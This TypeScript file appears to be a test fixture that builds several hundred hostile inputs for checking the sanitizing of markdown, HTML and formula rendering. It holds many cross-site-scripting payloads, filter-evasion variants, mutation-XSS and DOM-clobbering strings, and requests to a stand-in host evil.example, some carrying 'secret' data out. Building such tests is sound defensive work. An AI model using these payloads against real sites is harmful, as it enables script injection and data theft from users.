/**
 * Texts that try to run a script or to load something from elsewhere, for a page that shows what models, documents and other
 * people wrote. `EVIL` is a host that nobody may ask.
 */
const EVIL = 'evil.example';
const RUN = 'window.ran=1';

/** What a script address can look like to a careless filter. */
const SCRIPT_ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;&#x61;vascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5yYW49MSIvPg==`,
  `blob:http://${EVIL}/x`,
  `file:///etc/passwd`,
  `filesystem:http://${EVIL}/x`,
  `//${EVIL}/x`,
  `\\\\${EVIL}\\x`,
  `https:${EVIL}/x`,
  `http://${EVIL}/x?q=secret`,
  `https://${EVIL}/p.png`,
  `ws://${EVIL}/`,
  `mailto:a@${EVIL}?body=<script>${RUN}</script>`,
];

/** Where a markdown text takes an address. */
const ADDRESS_FORMS: readonly ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}>)`,
  (address) => `![picture](${address})`,
  (address) => `![picture](<${address}> "title")`,
  (address) => `[![picture](${address})](${address})`,
  (address) => `<${address}>`,
  (address) => `[click][r]\n\n[r]: ${address}`,
  (address) => `[click](${address} "x\\" onmouseover=\\"${RUN}")`,
];

const EVENTS = ['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onbeforetoggle'];
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'iframe',
  'marquee',
  'object data=x',
];

/** HTML that runs or loads something where it is taken for HTML. */
const HTML: readonly string[] = [
  ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=${RUN}>`)),
  `<script>${RUN}</script>`,
  `<script src=//${EVIL}/x.js></script>`,
  `<SCRIPT/SRC=//${EVIL}/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="//${EVIL}/x.svg#a"/></svg>`,
  `<svg><image href="//${EVIL}/p.png"/></svg>`,
  `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe src="//${EVIL}/"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="//${EVIL}/x.swf">`,
  `<link rel=stylesheet href=//${EVIL}/x.css>`,
  `<link rel=dns-prefetch href=//${EVIL}>`,
  `<link rel=preload as=image href=//${EVIL}/p.png>`,
  `<meta http-equiv=refresh content="0;url=//${EVIL}">`,
  `<base href=//${EVIL}/>`,
  `<style>@import url(//${EVIL}/x.css);</style>`,
  `<p style="background:url(//${EVIL}/p.png)">x</p>`,
  `<img src="//${EVIL}/p.png">`,
  `<img srcset="//${EVIL}/p.png 1x">`,
  `<picture><source srcset="//${EVIL}/p.png"><img></picture>`,
  `<video poster="//${EVIL}/p.png"></video>`,
  `<audio src="//${EVIL}/a.mp3" autoplay></audio>`,
  `<table background="//${EVIL}/p.png"><tr><td>x</table>`,
  `<form action=//${EVIL}/><button>send</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="//${EVIL}/" ping="//${EVIL}/ping">x</a>`,
  `<a id=body name=body>x</a><a id=createElement>x</a>`,
  `<form id=document><input name=body></form>`,
  `<img name=getElementById>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml-stylesheet href="//${EVIL}/x.xsl"?>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `' onmouseover='${RUN}' x='`,
  `\` onmouseover=${RUN} x=\``,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `\u202Egnp.exe <img src=x onerror=${RUN}>`,
  `<img\u0000src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}//`,
  `<xss contenteditable autofocus onfocus=${RUN}>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
];

/** Places of markdown around HTML. */
const PLACES: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `\`\`\`html\n${html}\n\`\`\``,
  (html) => `| a | b |\n| --- | --- |\n| ${html.replaceAll('|', '')} | x |`,
];

const INFO_STRINGS = [
  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
  `\`\`\`html" onmouseover="${RUN}\nx\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${RUN}>"] --> B\nclick A "javascript:${RUN}"\n\`\`\``,
  `$$\\href{javascript:${RUN}}{x}$$`,
  `$\\includegraphics{http://${EVIL}/p.png}$`,
  `~~~<script>${RUN}</script>\nx\n~~~`,
  `<details><summary>x</summary>\n\n<img src=x onerror=${RUN}>\n\n</details>`,
  `[x]: http://${EVIL}/p.png\n\n![x][x]`,
  `# <img src=x onerror=${RUN}>`,
  `> <script>${RUN}</script>`,
  `- <img src=x onerror=${RUN}>\n- [x](javascript:${RUN})`,
  `**<img src=x onerror=${RUN}>**`,
];

/** What a typesetter of formulas could be talked into. */
const FORMULAS = [
  `\\href{javascript:${RUN}}{x}`,
  `\\href{http://${EVIL}/?q=secret}{x}`,
  `\\url{javascript:${RUN}}`,
  `\\includegraphics[height=1em]{http://${EVIL}/p.png}`,
  `\\htmlData{onclick=${RUN}}{x}`,
  `\\htmlId{body}{x}`,
  `\\htmlClass{sandbox}{x}`,
  `\\htmlStyle{background:url(//${EVIL}/p.png)}{x}`,
  `\\color{red;background:url(//${EVIL}/p.png)}x`,
  `\\textcolor{#fff" onmouseover="${RUN}}{x}`,
  `\\text{<script>${RUN}</script>}`,
  `\\verb|<img src=x onerror=${RUN}>|`,
  `<img src=x onerror=${RUN}>`,
  `</code><script>${RUN}</script>`,
  `\\def\\x{\\x\\x}\\x`,
  `\\rule{1e9em}{1e9em}`,
  `\\unicode{x3c}script\\unicode{x3e}`,
  `\\begin{array}{c}\\href{javascript:${RUN}}{x}\\end{array}`,
];

/** More than 300 messages. */
export const hostileTexts: readonly string[] = [
  ...SCRIPT_ADDRESSES.flatMap((address) => ADDRESS_FORMS.map((form) => form(address))),
  ...HTML.slice(TAGS.length * EVENTS.length).flatMap((html) => PLACES.map((place) => place(html))),
  ...HTML.slice(0, TAGS.length * EVENTS.length),
  ...INFO_STRINGS,
  ...FORMULAS.flatMap((formula) => [`$${formula}$`, `\\(${formula}\\)`, `$$\n${formula}\n$$`]),
];

/** For names, titles and other short texts. */
export const hostileNames: readonly string[] = HTML;
